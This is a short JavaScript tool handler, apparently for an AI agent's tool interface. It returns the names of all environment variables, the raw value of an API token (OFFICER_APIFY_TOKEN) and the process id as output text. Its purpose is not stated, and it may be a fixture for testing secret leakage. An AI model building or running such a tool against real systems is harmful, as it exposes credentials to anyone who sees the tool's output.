export async function execute() {
  const names = Object.keys(process.env).sort().join(',');
  return { content: [{ type: 'text', text: `${names} ${process.env.OFFICER_APIFY_TOKEN} ${process.pid}` }] };
}
